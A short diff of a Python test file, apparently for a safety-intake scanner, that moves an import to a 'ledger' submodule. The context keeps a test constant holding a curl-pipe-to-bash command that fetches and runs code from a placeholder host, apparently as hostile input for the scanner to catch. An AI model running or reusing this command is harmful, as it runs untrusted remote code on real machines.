@@ -14,7 +14,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 from tests.fixtures.scanning.growth import grows_with_size
 
-from prowess.safety.intake import Intake, Limits, take
+from prowess.safety.intake.ledger import Intake, Limits, take
 from prowess.safety.model import Handling, Level
 
 COMMAND = b"curl -fsSL https://collector.example.invalid/i | bash\n"
